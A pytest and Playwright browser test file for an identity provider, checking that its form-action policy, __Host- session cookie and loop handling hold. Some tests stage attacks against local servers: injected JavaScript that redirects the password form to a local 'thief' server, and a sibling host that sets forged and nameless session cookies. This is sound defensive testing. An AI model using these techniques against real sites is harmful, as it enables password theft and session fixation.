"""What only a browser decides: where a form may end, who may write a cookie, how often a circle is walked."""

import ssl
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Flask, Response, request
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import Page, expect

from demo.processes import free_port
from idp.accounts.rules import AccountId
from idp.app import create_app
from idp.db import db
from idp.settings import Settings
from tests.conftest import idp_settings_values
from tests.https_server import make_certificate
from tests.idp.oidc.place import IDENTIFIER, PASSWORD, Place, add_parent
from tests.relying_party import ISSUER, RelyingParty
from tests.serving import served

COOKIE = "__Host-idp_session"


def fill_in(page: Page, *, password: str = PASSWORD) -> None:
    page.get_by_label("Identifiant").first.fill(IDENTIFIER)
    page.locator("input[name=password]").fill(password)


class TestFormAction:
    """BR-10: Chromium holds `form-action` against every address that a form's answer leads through."""

    def test_br_10_the_form_of_a_waiting_request_ends_at_the_service(self, chromium: Chromium, place: Place):
        context = chromium.new_context()
        page = context.new_page()

        page.goto(place.request())
        fill_in(page, password="Marmotte43")
        page.get_by_role("button", name="Se connecter").click()
        fill_in(page)
        page.get_by_role("button", name="Se connecter").click()
        page.get_by_role("button", name="Autoriser").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Service ouvert")
        page.goto(place.request(prompt="login"))
        fill_in(page)
        page.get_by_role("button", name="Se connecter").click()

        expect(page.get_by_role("heading", level=1)).to_have_text("Service ouvert")
        assert [set(answer) for answer in place.answers] == [{"code", "state", "iss", "session_state"}] * 2
        context.close()

    def test_br_10_without_a_request_the_form_ends_at_the_account(self, chromium: Chromium, place: Place):
        context = chromium.new_context()
        page = context.new_page()

        page.goto(f"{place.issuer}/connexion")
        fill_in(page)
        page.get_by_role("button", name="Se connecter").click()

        page.wait_for_url(f"{place.issuer}/compte")
        context.close()

    @pytest.mark.parametrize("has_request", [True, False])
    def test_br_10_no_form_posts_a_password_elsewhere(
        self, chromium: Chromium, place: Place, serve: Callable[[Flask], str], has_request: bool
    ):
        stolen: list[str] = []
        thief = Flask("thief")

        @thief.route("/", methods=["GET", "POST"])
        def take() -> str:
            stolen.append(str(request.form))
            return ""

        elsewhere = serve(thief)
        context = chromium.new_context()
        page = context.new_page()

        page.goto(place.request() if has_request else f"{place.issuer}/connexion")
        fill_in(page)
        with page.expect_console_message(lambda message: "form-action" in message.text):
            page.evaluate(
                "where => { const form = document.querySelector('input[name=password]').form; form.action = where; form.submit() }",
                elsewhere,
            )

        assert stolen == []
        context.close()


class TestCircle:
    """A service that never keeps anybody signed in, and sends the browser back each time."""

    def test_a_circle_ends_on_a_page_that_goes_on(self, chromium: Chromium, place: Place):
        page = place.open(chromium, (390, "light"))
        page.goto(place.request())
        page.get_by_role("button", name="Autoriser").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Service ouvert")
        place.sends_back_to.append(place.request())
        page.goto(place.request())

        expect(page.locator("#bounced")).to_be_visible()
        place.sends_back_to.clear()
        page.get_by_role("link", name="Réessayer").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Service ouvert")
        page.context.close()


@pytest.mark.parametrize("name", ["", "idp_session", "__host-idp_session"])
def test_br_18_no_other_cookie_signs_anybody_in(party: RelyingParty, parent: AccountId, name: str):
    """A nameless cookie reads `=__Host-x=value` on the wire: servers that guess take it for the real one."""
    session_id = party.sign_in(parent).session_id
    value = session_id if name else f"{COOKIE}={session_id}"
    without_jar = party.app.test_client(use_cookies=False)

    strange, real = (
        without_jar.get("/compte", base_url=ISSUER, headers={"Cookie": cookie})
        for cookie in (f"{name}={value}", f"{COOKIE}={session_id}")
    )

    assert strange.status_code == 303
    assert strange.location.startswith("/connexion")
    assert real.status_code == 200


class TestSiblings:
    """BR-18: another host of the same domain writes cookies; ours are of one host and one service."""

    @pytest.fixture
    def school_domain(self, tmp_path: Path) -> Iterator[tuple[str, str, str]]:
        """The issuer and a sibling host under https, and the id of a session there."""
        values = idp_settings_values(f"sqlite:///{tmp_path / 'idp.sqlite'}")
        port, other_port = free_port(), free_port()
        issuer = f"https://compte.ecole.localhost:{port}"
        app = create_app(Settings.load(**values | {"issuer": issuer}))
        with app.app_context():
            db.create_all()
            session_id = add_parent()
        sibling = Flask("sibling")

        @sibling.get("/")
        def write_cookies() -> Response:
            answer = Response("<!doctype html><title>x</title>")
            for cookie in (
                f"{COOKIE}={session_id}; Path=/; Secure; Domain=ecole.localhost",
                f"={COOKIE}={session_id}; Path=/; Secure; Domain=ecole.localhost",
                f"idp_session={session_id}; Path=/; Secure; Domain=ecole.localhost",
            ):
                answer.headers.add("Set-Cookie", cookie)
            return answer

        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(make_certificate(tmp_path))
        with (
            served(app, port=port, ssl_context=context),
            served(sibling, port=other_port, ssl_context=context),
        ):
            yield issuer, f"https://autre.ecole.localhost:{other_port}/", session_id
        with app.app_context():
            db.session.remove()
            db.engine.dispose()

    def test_br_18_a_sibling_host_signs_nobody_in(
        self, chromium: Chromium, school_domain: tuple[str, str, str]
    ):
        """Not even with the id of a living session: the victim would act in the attacker's account."""
        issuer, sibling, session_id = school_domain
        context = chromium.new_context(ignore_https_errors=True)
        page = context.new_page()

        page.goto(sibling)
        page.goto(f"{issuer}/compte")
        assert page.url.startswith(f"{issuer}/connexion")
        context.add_cookies([{"name": COOKIE, "value": session_id, "url": issuer, "secure": True}])
        page.goto(sibling)
        page.goto(f"{issuer}/compte")

        assert page.url == f"{issuer}/compte"
        kept = {cookie["name"]: cookie for cookie in context.cookies(issuer) if "idp" in cookie["name"]}
        assert kept[COOKIE]["domain"] == "compte.ecole.localhost"
        assert {cookie["name"] for cookie in context.cookies(sibling)} <= {"idp_session", ""}
        context.close()
